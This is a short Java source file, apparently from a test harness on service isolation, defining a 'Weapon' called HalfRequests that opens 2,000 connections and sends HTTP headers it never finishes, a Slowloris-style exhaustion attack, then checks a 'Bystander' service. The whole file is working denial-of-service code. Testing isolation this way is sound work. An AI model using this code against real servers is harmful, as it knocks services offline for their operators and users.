package dev.segmentation.attack;

import java.io.IOException;

/**
 * Opens 2,000 connections, and never ends the headers.
 */
record HalfRequests() implements Weapon {

	private static final int CONNECTIONS = 2000;

	@Override
	public String use(Target target, Bystander bystander) throws IOException, InterruptedException {
		int refused = 0;
		for (int n = 0; n < CONNECTIONS; n++) {
			try {
				target.send("GET /ping HTTP/1.1\r\nHost: localhost\r\nX-Slow: ");
			}
			catch (IOException ex) {
				refused++;
			}
		}
		bystander.stay();
		return "%d half requests, %d refused".formatted(CONNECTIONS, refused);
	}

}
